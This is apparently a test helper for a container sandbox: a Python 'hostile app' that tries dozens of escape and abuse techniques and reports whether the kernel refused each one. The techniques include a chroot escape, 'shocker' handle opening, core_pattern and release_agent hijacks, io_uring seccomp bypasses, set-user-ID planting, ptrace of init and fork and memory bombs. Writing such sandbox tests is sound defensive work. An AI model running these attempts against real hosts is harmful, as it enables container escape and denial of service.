#!/usr/bin/python3
"""A hostile app: runs as root in a container and tries what its first argument names.

Prints "refused ERRNO" when the kernel refused the attempt, or "done ..." when it went through. What a test expects is in the
tests; here nothing is judged.
"""

import ctypes
import errno
import os
import signal
import socket
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    # x86_64, then the generic table of aarch64 and newer architectures
    "bpf": (321, 280), "clone": (56, 220), "clone3": (435, 435), "finit_module": (313, 273),
    "fsopen": (430, 430), "init_module": (175, 105), "io_uring_enter": (426, 426), "io_uring_setup": (425, 425), "kexec_load": (246, 104),
    "keyctl": (250, 219), "mount": (165, 40), "mount_setattr": (442, 442), "move_mount": (429, 429),
    "open_by_handle_at": (304, 265), "open_tree": (428, 428), "perf_event_open": (298, 241), "pivot_root": (155, 41),
    "process_vm_readv": (310, 270), "ptrace": (101, 117), "reboot": (169, 142), "setns": (308, 268),
    "settimeofday": (164, 170), "swapon": (167, 224), "syslog": (103, 116), "umount2": (166, 39), "unshare": (272, 97),
    "userfaultfd": (323, 282), "personality": (135, 92), "acct": (163, 89), "quotactl": (179, 60),
    "chmod": (90, None), "creat": (85, None), "fchmod": (91, 52), "fchmodat": (268, 53), "fchmodat2": (452, 452),
    "mknod": (133, None), "mknodat": (259, 33), "open": (2, None), "openat": (257, 56), "openat2": (437, 437),
    "add_key": (248, 217), "pidfd_getfd": (438, 438), "chroot": (161, 51), "fsmount": (432, 432), "prlimit64": (302, 261),
}
COLUMN = 0 if os.uname().machine == "x86_64" else 1
NAMESPACES = {
    "user": 0x10000000, "mnt": 0x20000, "pid": 0x20000000, "net": 0x40000000,
    "ipc": 0x8000000, "uts": 0x4000000, "cgroup": 0x2000000,
}


def call(name, *arguments):
    """A system call; raises OSError."""
    plain = [a if isinstance(a, (bytes, type(None), ctypes.Array)) else ctypes.c_ulong(a) for a in arguments]
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name][COLUMN]), *plain)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def write(path, text):
    with open(path, "w") as file:
        file.write(text)
        file.flush()


def mount_tmpfs():
    call("mount", b"none", b"/tmp", b"tmpfs", 0, None)


def mount_proc():
    call("mount", b"none", b"/tmp", b"proc", 0, None)


def mount_new_api():
    call("fsmount", call("fsopen", b"tmpfs", 0), 0, 0)


def mount_in_own_namespace():
    call("unshare", NAMESPACES["user"] | NAMESPACES["mnt"])
    mount_tmpfs()


def abstract_socket():
    connect("\0" + sys.argv[2])


def open_tree_clone():
    call("open_tree", ctypes.c_ulong(-100 & (2**64 - 1)).value, b"/usr", 1)


def remount_rw():
    call("mount", None, b"/usr", None, 32 | 4096, None)


def mount_setattr_rw():
    attributes = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
    call("mount_setattr", ctypes.c_ulong(-100 & (2**64 - 1)).value, b"/usr", 0, attributes, 32)


def write_usr():
    write("/usr/attack", "x")


def umount_masked():
    call("umount2", b"/proc/kcore", 2)


def mknod_block():
    os.mknod("/tmp/sda", 0o60666, os.makedev(8, 0))


def mknod_mem():
    os.mknod("/tmp/mem", 0o20666, os.makedev(1, 1))


def mknod_null():
    os.mknod("/tmp/null", 0o20666, os.makedev(1, 3))


def mknod_kvm():
    os.mknod("/tmp/kvm", 0o20666, os.makedev(10, 232))


def open_device():
    # A node that somebody else made, on a file system where nodes work (argument): the device cgroup answers.
    os.open(sys.argv[2], os.O_RDWR)


def chroot_escape():
    # The classic: keep a descriptor outside of a new root, go there and up.
    outside = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    report_root("/")


def pivot_root():
    call("pivot_root", b"/tmp", b"/tmp")


def report_root(path):
    """Whether a root directory is the host's: the test tells of a file that only the host has (argument)."""
    if os.path.exists(path + sys.argv[2]):
        print("done: saw", path + sys.argv[2])
    else:
        raise OSError(errno.ENOENT, sys.argv[2])


def proc_1_root():
    report_root("/proc/1/root")


def dotdot_escape():
    os.chdir("/")
    report_root("../" * 32)


def open_by_handle():
    # The root inode of the file system that /usr is on ("shocker").
    handle = ctypes.create_string_buffer(struct.pack("IiQQ", 8, 1, 2, 0))
    call("open_by_handle_at", os.open("/usr", os.O_RDONLY), handle, 0)


def sysrq():
    write("/proc/sysrq-trigger", "h")


def core_pattern():
    write("/proc/sys/kernel/core_pattern", "|/tmp/evil")


def modprobe_path():
    write("/proc/sys/kernel/modprobe", "/tmp/evil")


def uevent_helper():
    write("/sys/kernel/uevent_helper", "/tmp/evil")


def write_sys():
    write("/sys/class/net/lo/mtu", "1500")


def open_kernel_files():
    # Whatever in /proc and /sys is not about a process: can any of it be opened for writing? Nothing is written. /proc/pressure is made for
    # every user to wait at.
    opened, tried = [], 0
    for top in ("/proc", "/sys"):
        for directory, directories, files in os.walk(top):
            if directory == "/proc":
                others = ("self", "thread-self", "pressure")
                directories[:] = [name for name in directories if not name.isdigit() and name not in others]
            for name in files:
                path = directory + "/" + name
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                tried += 1
                try:
                    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                    opened.append(path)
                except OSError:
                    pass
    print("tried", tried)
    if opened:
        print("done:", opened)
        return
    raise OSError(errno.EACCES, "all are closed")


def release_agent():
    for directory, _, files in os.walk("/sys/fs/cgroup"):
        if "release_agent" in files:
            write(directory + "/release_agent", "/tmp/evil")
            return
    raise OSError(errno.ENOENT, "no release_agent in sight")


def cgroup_mount_release_agent():
    call("mount", b"none", b"/tmp", b"cgroup", 0, b"rdma")


def cgroup_own_limit():
    # Own limits, wherever a hierarchy can be seen.
    for directory, _, files in os.walk("/sys/fs/cgroup"):
        if "pids.max" in files:
            write(directory + "/pids.max", "max")
            return
    raise OSError(errno.ENOENT, "no pids.max in sight")


def setns_init():
    # A namespace of the first process; the same one, so that only a filter or rights can refuse it.
    call("setns", os.open("/proc/self/ns/mnt", os.O_RDONLY), 0)


def unshare_user():
    call("unshare", NAMESPACES["user"])


def unshare_each():
    for name, flag in NAMESPACES.items():
        try:
            call("unshare", flag)
            print("done: unshared", name)
            return
        except OSError as error:
            last = error
    raise last


def clone_user():
    pid = call("clone", NAMESPACES["user"] | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def clone3_user():
    arguments = ctypes.create_string_buffer(struct.pack("8Q", NAMESPACES["user"], 0, 0, 0, signal.SIGCHLD, 0, 0, 0))
    pid = call("clone3", arguments, 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def ptrace_init():
    call("ptrace", 16, 1, 0, 0)


def ptrace_host():
    call("ptrace", 16, int(sys.argv[2]), 0, 0)


def ptrace_self_child():
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    try:
        call("ptrace", 16, pid, 0, 0)
    finally:
        os.kill(pid, signal.SIGKILL)


def read_init_memory():
    read_memory("1")


def read_memory(process=None):
    open(f"/proc/{process or sys.argv[2]}/mem", "rb").close()


def open_init_descriptors():
    # Their numbers can be listed, but none can be opened; a socket could be no more than looked at.
    for number in os.listdir("/proc/1/fd"):
        print("done:", os.readlink("/proc/1/fd/" + number))


def read_init_environment():
    print("done:", open("/proc/1/environ", "rb").read())


def process_vm_readv():
    read_vector(1)


def read_vector(process=None):
    size = struct.calcsize("L")
    ours, theirs = ctypes.create_string_buffer(size), struct.pack("LL", ctypes.addressof(LIBC.getpid), size)
    vector = ctypes.create_string_buffer(struct.pack("LL", ctypes.addressof(ours), size))
    call("process_vm_readv", process or int(sys.argv[2]), vector, 1, ctypes.create_string_buffer(theirs), 1, 0)


def read_own_child():
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    try:
        read_vector(pid)
    finally:
        os.kill(pid, signal.SIGKILL)


def take_descriptor():
    call("pidfd_getfd", os.pidfd_open(int(sys.argv[2])), 0, 0)


def kexec():
    call("kexec_load", 0, 0, 0, 0)


def load_module():
    call("init_module", b"x", 1, b"")


def load_module_file():
    call("finit_module", os.open("/usr/bin/python3", os.O_RDONLY), b"", 0)


def bpf():
    call("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(104)), 120)


def perf():
    # The clock of the processor, of this process, outside of the kernel: what every user may count where perf is not closed.
    attributes = ctypes.create_string_buffer(struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, 0b1100000) + bytes(64))
    call("perf_event_open", attributes, 0, ctypes.c_ulong(-1 & (2**64 - 1)).value, ctypes.c_ulong(-1 & (2**64 - 1)).value, 0)


def userfaultfd():
    call("userfaultfd", 1)


def io_uring():
    call("io_uring_setup", 1, ctypes.create_string_buffer(256))


def through_ring(opcode, fd, offset=0, address=0, length=0, flags=0):
    """What a system call does, asked of io_uring(7) instead, past every filter: one entry of linux/io_uring.h; its result."""
    import mmap
    parameters = ctypes.create_string_buffer(120)
    ring = call("io_uring_setup", 1, parameters)
    numbers = struct.unpack("30I", parameters.raw)
    submission, completion = numbers[10:17], numbers[20:26]
    rings = mmap.mmap(ring, max(submission[6] + 4, completion[5] + 32))
    entries = mmap.mmap(ring, 64, offset=0x10000000)
    entries[:40] = struct.pack("BBHiQQIIQ", opcode, 0, 0, fd, offset, address, length, flags, 0)
    rings[submission[6]:submission[6] + 4] = struct.pack("I", 0)
    rings[submission[1]:submission[1] + 4] = struct.pack("I", 1)
    call("io_uring_enter", ring, 1, 1, 1, None, 0)
    _, result = struct.unpack("Qi", rings[completion[5]:completion[5] + 12])
    if result < 0:
        raise OSError(-result, "io_uring")
    return result


def ring_open(path, flags, mode=0):
    path = ctypes.create_string_buffer(path.encode())
    return through_ring(18, -100, address=ctypes.addressof(path), length=mode, flags=flags)


def ring_write():
    ring_open(sys.argv[2], os.O_CREAT | os.O_RDWR, 0o644)


def ring_set_user_id():
    ring_open(sys.argv[2] + "/planted", os.O_CREAT | os.O_WRONLY, 0o4755)


def ring_socket():
    # IORING_OP_SOCKET of AF_VSOCK, a way to the hypervisor.
    through_ring(45, 40, offset=socket.SOCK_STREAM)


def any_call():
    """A system call by its number, as often as the second argument says."""
    for _ in range(int(sys.argv[3])):
        ctypes.set_errno(0)
        if LIBC.syscall(ctypes.c_long(int(sys.argv[2])), 0, 0, 0, 0, 0, 0) < 0:
            error = ctypes.get_errno()
        else:
            error = None
    if error is not None:
        raise OSError(error, "call")


def old_entry():
    """A system call of i386 by its number, from a program of x86_64: the entry by interrupt 0x80 is open to every program."""
    import mmap
    number, *arguments = [int(argument, 0) for argument in sys.argv[2:]]
    arguments += [0] * (3 - len(arguments))
    # push rbx; mov eax, ebx, ecx, edx; int 0x80; pop rbx; ret
    code = b"\x53" + b"".join(op + struct.pack("I", value) for op, value in zip((b"\xb8", b"\xbb", b"\xb9", b"\xba"), [number] + arguments))
    code += b"\xcd\x80\x5b\xc3"
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    entry = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(entry)()
    if result < 0:
        raise OSError(-result, "old entry")


def flood_of_denials():
    """Makes a call that no app may make, in eight processes, until the container ends."""
    for _ in range(8):
        if os.fork() == 0:
            while True:
                LIBC.syscall(ctypes.c_long(int(sys.argv[2])), 0)
    print("flooding", flush=True)
    signal.pause()


def keyctl_session():
    # KEYCTL_GET_KEYRING_ID of the user's keyring, made if it is not there.
    print("done:", call("keyctl", 0, ctypes.c_ulong(-4 & (2**64 - 1)).value, 1))


def add_key():
    call("add_key", b"user", b"attack", b"x", 1, ctypes.c_ulong(-4 & (2**64 - 1)).value)


def kernel_log():
    call("syslog", 3, ctypes.create_string_buffer(4096), 4096)


def kmsg_device():
    os.open("/dev/kmsg", os.O_RDONLY)


def kallsyms_addresses():
    for line in open("/proc/kallsyms"):
        address = line.split()[0]
        if int(address, 16) != 0:
            print("done: addresses")
            return
        break
    raise OSError(errno.EPERM, "addresses are hidden")


def kcore():
    if open("/proc/kcore", "rb").read(64):
        print("done: read")
    else:
        raise OSError(errno.ENODATA, "empty")


def masked(path):
    def attempt():
        content = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(64)
        if content:
            print("done: read")
        else:
            raise OSError(errno.ENODATA, "empty")
    return attempt


def raw_disk():
    nodes = [n for n in os.listdir("/dev") if n.startswith(("sd", "vd", "nvme", "mmcblk", "loop", "dm-"))]
    if nodes:
        os.open("/dev/" + nodes[0], os.O_RDONLY)
    else:
        raise OSError(errno.ENOENT, "no disk in /dev")


def dev_mem():
    os.open("/dev/mem", os.O_RDWR)


def reboot():
    # A magic number that no kernel takes: EINVAL would mean that only this kept the machine up.
    call("reboot", 0, 0, 0)


def set_time():
    # A time that cannot be, so that nothing changes where it is allowed.
    call("settimeofday", ctypes.create_string_buffer(struct.pack("qq", 0, -1)), None)


def swapon():
    call("swapon", b"/tmp/none", 0)


def personality():
    call("personality", 0x0040000)


def tiocsti():
    import fcntl
    import termios
    ours, theirs = os.openpty()
    fcntl.ioctl(theirs, 0x540E, 0)
    fcntl.ioctl(theirs, termios.TIOCSTI, b"x")


def vsock():
    socket.socket(40, socket.SOCK_STREAM)


def alg_socket():
    socket.socket(38, socket.SOCK_SEQPACKET)


def raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)


def packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)


def old_packet_socket():
    socket.socket(socket.AF_INET, 10, 0x300)


def xdp_socket():
    socket.socket(44, socket.SOCK_RAW)


def rare_protocol():
    # As the kernel looks for what it could load.
    for family in (socket.AF_INET, socket.AF_INET6):
        try:
            socket.socket(family, 6, 0)
            print("done: DCCP")
            return
        except OSError as error:
            last = error
            if error.errno != errno.EPROTONOSUPPORT:
                raise
    raise last


def gain_capability():
    # A set-user-ID copy of a program gives nothing with no_new_privs, and file capabilities cannot be set.
    write("/tmp/x", "x")
    os.setxattr("/tmp/x", "security.capability", bytes.fromhex("0100000200002000000000000000000000000000"))


def plant_set_user_id():
    # On a mount of the host (argument) the owner would be the host's root. Each way to set the bits, one after the other.
    here = ctypes.c_ulong(-100 & (2**64 - 1)).value
    create, temporary, write_only = os.O_CREAT, os.O_TMPFILE, os.O_WRONLY
    place = sys.argv[2].encode()
    name = place + b"/planted"
    open(name, "wb").close()
    how = ctypes.create_string_buffer(struct.pack("QQQ", create | write_only, 0o4755, 0))
    for mode in (0o4755, 0o2755):
        for arguments in (
            ("chmod", name, mode), ("fchmod", os.open(name, os.O_RDONLY), mode), ("fchmodat", here, name, mode),
            ("fchmodat2", here, name, mode, 0), ("creat", name + b"1", mode), ("open", name + b"2", create | write_only, mode),
            ("open", place, temporary | write_only, mode), ("openat", here, name + b"3", create | write_only, mode),
            ("openat", here, place, temporary | write_only, mode), ("mknod", name + b"4", 0o100000 | mode, 0),
            ("mknodat", here, name + b"5", 0o100000 | mode, 0), ("openat2", here, name + b"6", how, 24),
        ):
            if NUMBERS[arguments[0]][COLUMN] is None:
                continue
            try:
                call(*arguments)
                print("done:", arguments)
                return
            except OSError as error:
                last = error
                if error.errno not in (errno.EPERM, errno.ENOSYS):
                    raise
    os.chmod(name, 0o1755)
    open(place + b"/plain", "wb").close()
    raise OSError(errno.EPERM, str(last))


def regain_root():
    # A program that gave up root for good has left itself a set-user-ID copy, where no mount option takes the bit away.
    import shutil
    shutil.copy("/usr/bin/id", "/dev/id")
    os.chmod("/dev/id", 0o4755)
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.setgid(1000)
        os.setuid(1000)
        os.dup2(writing, 1)
        os.execv("/dev/id", ["id", "-u"])
    os.waitpid(pid, 0)
    if os.read(reading, 16).strip() != b"0":
        raise OSError(errno.EACCES, "still another user")


def effective_capabilities():
    for line in open("/proc/self/status"):
        if line.startswith(("CapEff", "CapBnd", "NoNewPrivs", "Seccomp:")):
            print(line.strip())


def kill_host():
    os.kill(int(sys.argv[2]), signal.SIGKILL)


def abstract_sockets():
    # The host's abstract sockets are in another network namespace.
    names = [line.split()[7] for line in open("/proc/net/unix") if len(line.split()) > 7]
    if [name for name in names if name.startswith("@")]:
        print("done:", names)
    else:
        raise OSError(errno.ENOENT, "no abstract socket in sight")


def connect(path):
    socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(path)


def agent_socket():
    connect("/gateways/.init")


def host_path():
    # A directory of the host that the test names, such as another container's.
    os.listdir(sys.argv[2])


def fork_bomb():
    children = 0
    try:
        while children < 5000:
            pid = os.fork()
            if pid == 0:
                signal.pause()
            children += 1
    finally:
        print("children", children, flush=True)
        os.kill(0, signal.SIGTERM) if children > 4990 else None
    print("done")


def thread_bomb():
    import threading
    event = threading.Event()
    try:
        for _ in range(5000):
            threading.Thread(target=event.wait, daemon=True).start()
    except RuntimeError:
        os.write(1, b"refused EAGAIN\n")
        os._exit(1)
    os.write(1, b"done\n")
    os._exit(0)


def memory_bomb():
    # In steps, so that the first one too many shows.
    held = []
    for step in range(int(sys.argv[2])):
        held.append(bytearray(b"x" * (1 << 20)))
    print("done:", len(held), "MiB")


def descriptor_bomb():
    import resource
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held = []
    try:
        while len(held) < 6000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        os.write(1, f"held {len(held)}\n".encode())
        raise error
    print("done")


def raise_descriptor_limit():
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (5000, 5000))


def fill_root():
    with open("/tmp/fill", "wb") as file:
        for _ in range(256):
            file.write(bytes(1 << 20))
            file.flush()


def fill_inodes():
    for number in range(1 << 16):
        open(f"/tmp/{number}", "w").close()


def fill_dev():
    with open("/dev/fill", "wb") as file:
        for _ in range(64):
            file.write(bytes(1 << 20))
            file.flush()


def fill_dev_inodes():
    for number in range(1 << 16):
        os.mkdir(f"/dev/{number}")


def fill_shm():
    try:
        with open("/dev/shm/fill", "wb") as file:
            for _ in range(128):
                file.write(bytes(1 << 20))
                file.flush()
    finally:
        os.unlink("/dev/shm/fill")


def swap_links():
    """Swaps a directory for a link out of its place, over and over (arguments: the directory, where the link goes, seconds)."""
    place, target, seconds = sys.argv[2], sys.argv[3], float(sys.argv[4])
    os.makedirs(place + ".dir", exist_ok=True)
    os.path.islink(place + ".link") or os.symlink(target, place + ".link")
    end = time.monotonic() + seconds
    swaps = 0
    while time.monotonic() < end:
        for which in (".dir", ".link"):
            try:
                os.rename(place + which, place)
                swaps += 1
                os.rename(place, place + which)
            except OSError:
                # The host made or mounted something there: give it way.
                try:
                    os.rmdir(place)
                except OSError:
                    pass
    print("swaps", swaps)


def log_flood():
    # To where logs go: the host's sockets are not there, standard error is the output file.
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect("/dev/log")


def journal_flood():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect("/run/systemd/journal/socket")


def system_bus():
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("/run/dbus/system_bus_socket")


for hidden in ("keys", "timer_list", "bus", "irq", "fs", "acpi", "scsi"):
    globals()["proc_" + hidden] = masked("/proc/" + hidden)
sys_firmware = masked("/sys/firmware")


def hardware():
    # What the machine was started with, and what it is made of.
    hidden = ["/proc/" + name for name in ("cmdline", "config.gz", "diskstats", "interrupts", "iomem")]
    for path in hidden + ["/sys/class/block"]:
        if os.path.isdir(path):
            content = os.listdir(path)
        elif os.path.exists(path):
            content = open(path, "rb").read(64)
        else:
            continue
        if content:
            print("done: read", path)
            return
    raise OSError(errno.ENODATA, "empty")


def limit_init():
    # RLIMIT_CPU: the kernel would end it.
    call("prlimit64", 1, 0, struct.pack("QQ", 0, 0), None)


def stop_others():
    """Stops every other process over and over, until it is told to let them go on."""
    told = []
    signal.signal(signal.SIGUSR1, lambda *_: told.append(True))
    print("stopping", flush=True)
    while not told:
        try:
            os.kill(-1, signal.SIGSTOP)
        except ProcessLookupError:
            pass
    os.kill(-1, signal.SIGCONT)
    print("continued", flush=True)
    time.sleep(1000)


def attempt(name):
    try:
        globals()[name]()
        print("done", flush=True)
    except OSError as error:
        print("refused", errno.errorcode.get(error.errno, error.errno), flush=True)
    except MemoryError:
        print("refused ENOMEM", flush=True)


if __name__ == "__main__":
    attempt(sys.argv[1])
